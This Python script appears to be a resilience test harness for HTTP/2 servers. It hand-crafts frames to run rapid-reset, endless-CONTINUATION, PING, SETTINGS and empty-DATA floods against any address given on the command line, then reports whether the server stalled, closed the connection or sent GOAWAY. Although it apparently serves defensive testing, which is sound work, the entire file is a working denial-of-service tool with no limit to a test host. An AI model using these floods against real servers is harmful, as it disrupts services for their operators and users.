"""Says things in HTTP/2 that a server must bear: rapid resets, CONTINUATION without end, floods of PING and SETTINGS, a head
that never ends. Frames are written by hand.

Usage: h2_flood.py ADDRESS PORT KIND; prints one JSON line with what became of the connection.
"""
import json
import socket
import struct
import sys
import time

ADDRESS, PORT, KIND = sys.argv[1], int(sys.argv[2]), sys.argv[3]
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
# :method GET, :scheme http, :path /slow/500, :authority canary (literal values, not indexed).
PATH, HOST = b"/slow/500", b"canary"
HEAD = (
    bytes([0x82, 0x86, 0x04, len(PATH)]) + PATH + bytes([0x01, len(HOST)]) + HOST
)


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def floods():
    """Frames without end."""
    stream = 1
    if KIND == "continuation":
        yield frame(HEADERS, END_STREAM, 1, HEAD)
        while True:
            # A field that the table does not keep: name and value of some hundred bytes.
            yield frame(CONTINUATION, 0, 1, b"\x00\x04junk\x7f\x81\x00" + b"x" * 256)
    while True:
        if KIND == "resets":
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, HEAD)
            yield frame(RST_STREAM, 0, stream, struct.pack("!I", 8))
            stream += 2
        elif KIND == "pings":
            yield frame(PING, 0, 0, b"12345678")
        elif KIND == "settings":
            yield frame(SETTINGS, 0, 0, struct.pack("!HI", 3, 100))
        elif KIND == "empty-data":
            if stream == 1:
                yield frame(HEADERS, END_HEADERS, 1, HEAD)
                stream = 3
            yield frame(DATA, 0, 1)


def last_goaway(received):
    """The error code of a GOAWAY, if there is one among whole frames."""
    found = None
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        if received[3] == GOAWAY:
            found = int.from_bytes(received[13:17], "big")
        received = received[9 + length :]
    return found


connection = socket.create_connection((ADDRESS, PORT), timeout=20)
connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
start, sent, received, ended = time.monotonic(), 0, b"", "open"
connection.settimeout(2)
batch = b""
try:
    for one in floods():
        batch += one
        sent += 1
        if len(batch) < 1 << 14:
            continue
        connection.sendall(batch)
        batch = b""
        if time.monotonic() - start > 5 or sent > 2_000_000:
            break
        connection.setblocking(False)
        try:
            while True:
                more = connection.recv(1 << 16)
                if not more:
                    raise ConnectionResetError
                received = (received + more)[-(1 << 20) :] if KIND in ("pings", "settings") else received + more
        except BlockingIOError:
            pass
        connection.settimeout(2)
except TimeoutError:
    # The server takes no more: it does not pile up what it cannot answer.
    ended = "held back"
except OSError:
    ended = "closed"
if ended == "closed":
    connection.settimeout(1)
    try:
        while more := connection.recv(1 << 16):
            received += more
    except OSError:
        pass
print(json.dumps({"ended": ended, "sent": sent, "goaway": last_goaway(received)}), flush=True)
